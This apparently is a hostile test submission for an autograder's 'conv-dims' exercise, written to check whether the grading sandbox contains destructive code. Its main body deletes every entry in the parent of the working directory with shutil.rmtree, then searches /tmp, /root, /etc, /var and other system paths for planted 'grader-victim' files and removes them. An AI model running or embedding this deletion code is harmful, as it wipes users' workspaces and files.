# grader: exercise=conv-dims
"""Hostile: deletes everything it can see around it, and every file named grader-victim* anywhere.

tests/test_hostile.py plants grader-victim files next to the submission, the rubric and the reports.
"""

# %%
import os
import shutil
import sys

conv_params = 80
workspace = os.path.dirname(os.getcwd())
for name in os.listdir(workspace):
    shutil.rmtree(os.path.join(workspace, name), ignore_errors=True)
deleted, denied = [], []
for top in (os.path.dirname(sys.prefix), "/tmp", "/work", "/root", "/home", "/etc", "/opt", "/var", "/srv", "/mnt"):
    for folder, subfolders, files in os.walk(top):
        if "site-packages" in folder:
            subfolders[:] = []
        for name in files:
            if name.startswith("grader-victim"):
                try:
                    os.remove(os.path.join(folder, name))
                    deleted.append(os.path.join(folder, name))
                except OSError:
                    denied.append(os.path.join(folder, name))
print("DELETED", deleted)
print("DENIED", denied)
conv_height = 100
